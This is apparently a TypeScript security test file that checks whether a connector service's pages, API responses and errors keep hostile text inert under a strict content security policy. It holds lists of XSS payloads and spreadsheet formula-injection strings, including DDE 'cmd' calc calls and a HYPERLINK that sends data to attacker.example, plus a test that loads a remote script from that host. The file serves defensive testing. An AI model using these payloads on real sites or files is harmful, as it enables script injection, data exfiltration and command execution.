/**
 * S8: text of others stays text. Markup and formulas in names, records and errors come back as they were stored and do
 * nothing in a browser, on no page of ours; and no page of ours would run a script that somebody got into it.
 */
import { Account, Auth, Connector, Models, Page, Setting, Wire } from "@svc/core"
import type { Browser, BrowserContext, Page as BrowserPage } from "playwright-core"
import { createHash } from "node:crypto"
import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
import * as Chromium from "../support/Chromium.ts"
import * as Service from "../support/Service.ts"

const hit = "window.top.wasHit=1"
const markup: ReadonlyArray<string> = [
  `<script>${hit}</script>`,
  `"><script>${hit}</script>`,
  `'><img src=x onerror=${hit}>`,
  `</title></textarea></style><svg onload=${hit}>`,
  `</script><script>${hit}</script>`,
  `<iframe srcdoc="<script>${hit}</script>">`,
  `<a href="javascript:${hit}" autofocus onfocus="${hit}">x</a>`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${hit}</script>">`,
  `<base href="https://attacker.example/">`,
  `<form action="https://attacker.example/"><button>x`,
  `{{constructor.constructor('${hit}')()}}`,
  "\u2028<!--<script>-->"
]
const formulas: ReadonlyArray<string> = [
  `=HYPERLINK("https://attacker.example?x="&A1,"x")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  "\t=1+1",
  "\r=1+1"
]
const texts = [...markup, ...formulas]

const Named = Wire.struct({ id: Wire.required(Wire.id), name: Wire.text })
/** A platform that says what it likes. */
const gossip = Connector.make({
  id: "GOSSIP",
  name: "Gossip",
  category: "ACCOUNTING",
  models: Models.models,
  auth: Auth.apiKey({
    fields: { key: Setting.asked({ label: "Key" }) },
    headers: ({ key }) => ({ "x-key": key! })
  }),
  settings: { account: Setting.discovered({ label: "Account" }) },
  discover: Connector.discover({
    call: { path: "/accounts" },
    response: Wire.list(Named),
    choices: (found) => found.map(({ id, name }) => ({ name: name ?? id, settings: { account: id } }))
  }),
  http: {
    baseUrl: "https://gossip.example",
    limits: { windows: [] },
    failure: ({ body }) => ({ message: (body as { readonly message?: string } | null)?.message })
  },
  account: Account.settings("account"),
  check: { path: "/check" },
  reads: {
    CONTACTS: Connector.read("CONTACTS", {
      path: "/contacts",
      page: Page.single,
      items: "",
      item: Named,
      deletes: { _tag: "FullListing" },
      map: ({ id, name }) => ({ platform_id: id, name: name ?? null })
    })
  },
  writes: {}
})

let platform: Server
let refusal: string | null = null
let service: Service.Service
let browser: Browser
let context: BrowserContext
let page: BrowserPage
let complaints: Array<string> = []

beforeAll(async () => {
  platform = createServer((request, response) => {
    const json = (status: number, body: unknown) =>
      response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body))
    if (refusal !== null) return void json(401, { message: refusal })
    const items = texts.map((name, index) => ({ id: String(index), name }))
    json(200, request.url === "/check" ? {} : items)
  })
  await new Promise<void>((resolve) => platform.listen(0, "127.0.0.1", resolve))
  service = await Service.start(
    { SVC_GOSSIP_BASE_URL: `http://127.0.0.1:${(platform.address() as AddressInfo).port}` },
    { connectors: [gossip] }
  )
  browser = await Chromium.launch()
  context = await browser.newContext()
  page = await context.newPage()
  page.on("console", (message) => {
    // An answer of 4xx is what some of these pages are for.
    if (message.type() === "error" && !/status of 4/.test(message.text())) complaints.push(message.text())
  })
  page.on("pageerror", (error) => complaints.push(String(error)))
})
afterAll(async () => {
  await browser?.close()
  await service?.stop()
  platform?.close()
})
beforeEach(() => {
  refusal = null
  complaints = []
})

/** Nothing of what is on the page ran, and nothing on it was kept from running either: it is no markup at all. */
const isInert = async (about: string) => {
  // An event that was going to happen has happened once the page rests.
  await page.waitForLoadState("load")
  expect(await page.evaluate(() => (window as any).wasHit), about).toBeUndefined()
  expect(complaints, about).toEqual([])
  expect(
    await page.evaluate(() => document.querySelectorAll("script:not([type]),iframe,object,embed").length),
    about
  ).toBe(0)
  expect(
    await page.evaluate(() =>
      [...document.querySelectorAll("*")].some((one) => [...one.attributes].some(({ name }) => name.startsWith("on")))
    ),
    about
  ).toBe(false)
}
const linkFor = async (body: object) =>
  (await service.call("POST", "/v3/core/invite_links", { integration_categories: ["ACCOUNTING"], ...body })).body.data

describe("the connect page", () => {
  it("shows names of companies, answers of platforms and what was typed as text", async () => {
    for (const text of texts) {
      const link = await linkFor({ company_name: text })
      await page.goto(link.url)
      await isInert(text)
      refusal = text
      const key = page.locator("input[name='key.key']")
      await key.fill(text)
      await page.getByRole("button").click()
      await page.getByRole("alert").first().waitFor()
      await isInert(text)
      refusal = null
    }
    // The names of accounts, all of them at once.
    await page.goto((await linkFor({ company_name: "Acme" })).url)
    await page.locator("input[name='key.key']").fill("right")
    await page.getByRole("button").click()
    await page.waitForURL(/\/account\//)
    await isInert("accounts")
    const shown = await page.locator("main").innerText()
    expect(shown).toContain(markup[0])
    await page.locator("input[type=radio]").first().check({ force: true })
    await page.getByRole("button").click()
    await page.waitForURL(/\/done\//)
    await isInert("done")
  })
  it("shows an address that holds markup as nothing", async () => {
    for (const text of markup) {
      for (const path of ["/connect/", "/oauth/callback/", "/connect/assets/", "/"]) {
        await page.goto(`${service.url}${path}${encodeURIComponent(text)}?state=${encodeURIComponent(text)}`)
        expect(await page.evaluate(() => (window as any).wasHit), `${path} ${text}`).toBeUndefined()
      }
    }
  })
})

describe("the interface", () => {
  it("answers what was stored, byte for byte, as something no browser takes for a page", async () => {
    const { companyId } = await connectedWith()
    const { body, headers } = await service.call(
      "GET",
      `/v3/accounting/contacts?limit=1000&svc_company_id[eq]=${companyId}`
    )
    expect(body.data.map(({ name }: any) => name).toSorted()).toEqual(texts.toSorted())
    expect(headers.get("content-type")).toMatch(/^application\/json/)
    for (const path of ["/v3/accounting/contacts", "/v3/core/companies", "/openapi.json"]) {
      const answer = await service.call("GET", path)
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff")
      expect(answer.headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'")
    }
    await context.setExtraHTTPHeaders({ api_key: Service.apiKey })
    try {
      await page.goto(`${service.url}/v3/accounting/contacts?limit=1000`)
      expect(await page.evaluate(() => (window as any).wasHit)).toBeUndefined()
      expect(await page.evaluate(() => document.contentType)).toBe("application/json")
    } finally {
      await context.setExtraHTTPHeaders({})
    }
  })
  it("repeats in its errors nothing that does something", async () => {
    for (const text of markup) {
      const answers = [
        await service.call("GET", `/v3/accounting/contacts?${encodeURIComponent(text)}=1`),
        await service.call("GET", `/${encodeURIComponent(text)}`),
        await service.call("POST", "/v3/core/companies", { [text]: text })
      ]
      for (const answer of answers) {
        expect(answer.status).toBeGreaterThanOrEqual(400)
        expect(answer.headers.get("content-type")).toMatch(/^application\/json/)
        expect(answer.headers.get("x-content-type-options")).toBe("nosniff")
      }
    }
  })
  const connectedWith = async () => {
    const company = await service.call("POST", "/v3/core/companies", { name: texts[0] })
    const companyId: number = company.body.data.svc_id
    const made = await service.call("POST", "/v3/core/connections", {
      company_id: companyId,
      integration_type: "GOSSIP",
      credentials: { key: "right" },
      settings: { account: "1" }
    })
    expect(made.status, made.text).toBe(200)
    await Service.until(
      () => service.call("GET", `/v3/accounting/contacts?svc_company_id[eq]=${companyId}&limit=1000`),
      ({ body }) => body.data.length === texts.length
    )
    return { companyId }
  }
})

describe("every page of ours", () => {
  const directives = (policy: string): Readonly<Record<string, string>> =>
    Object.fromEntries(
      policy.split(";").map((part) => {
        const [name, ...values] = part.trim().split(" ")
        return [name!, values.join(" ")]
      })
    )
  it("allows no script but those it was made with", async () => {
    const { url } = await linkFor({ company_name: "Acme" })
    const pages = [url, `${url}/with/gossip`, `${service.url}/connect/unknown`, `${service.url}/oauth/callback/x`]
    for (const address of [...pages, `${service.url}/docs`]) {
      const response = await fetch(address)
      const html = await response.text()
      expect(response.headers.get("content-type"), address).toMatch(/^text\/html/)
      const policy = directives(response.headers.get("content-security-policy") ?? "")
      expect(policy["default-src"], address).toBe("'none'")
      expect(policy["base-uri"], address).toBe("'none'")
      expect(policy["frame-ancestors"], address).toBe("'none'")
      const allowed = (policy["script-src"] ?? "").split(" ").filter((word) => word !== "")
      // Hashes and nothing else: no 'unsafe-inline', no 'unsafe-eval', no host.
      expect(
        allowed.filter((word) => !/^'sha256-[\w+/=]{44}'$/.test(word)),
        address
      ).toEqual([])
      const scripts = [...html.matchAll(/<script\b[^>]*>(.*?)<\/script>/gs)].map(([, script]) => script!)
      expect(
        scripts.map((script) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`),
        address
      ).toEqual(allowed)
      if (!address.endsWith("/docs")) expect(policy["style-src"], address).toBe("'self'")
    }
  })
  it("runs none that is put into it", async () => {
    const { url } = await linkFor({ company_name: "Acme" })
    for (const address of [url, `${service.url}/docs`]) {
      await page.goto(address)
      if (address.endsWith("/docs")) await page.getByText("List expenses").first().waitFor({ timeout: 120_000 })
      const refused = await page.evaluate(async () => {
        const refusals = new Set<string>()
        const refused = new Promise<void>((resolve) =>
          document.addEventListener("securitypolicyviolation", (event) => {
            refusals.add(event.effectiveDirective)
            if (refusals.has("script-src-elem") && refusals.has("script-src-attr")) resolve()
          })
        )
        const script = document.createElement("script")
        script.textContent = "window.wasHit = 1"
        document.body.append(script)
        const image = document.createElement("div")
        image.innerHTML = `<img src="data:," onerror="window.wasHit = 1"><svg onload="window.wasHit = 1"></svg>`
        document.body.append(image)
        const remote = document.createElement("script")
        remote.src = "https://attacker.example/x.js"
        const failed = new Promise((resolve) => remote.addEventListener("error", resolve))
        document.body.append(remote)
        await Promise.all([failed, refused])
        return { refusals: [...refusals], hit: (window as any).wasHit }
      })
      expect(refused.hit, address).toBeUndefined()
      expect(new Set(refused.refusals), address).toContain("script-src-elem")
      expect(new Set(refused.refusals), address).toContain("script-src-attr")
    }
  })
})
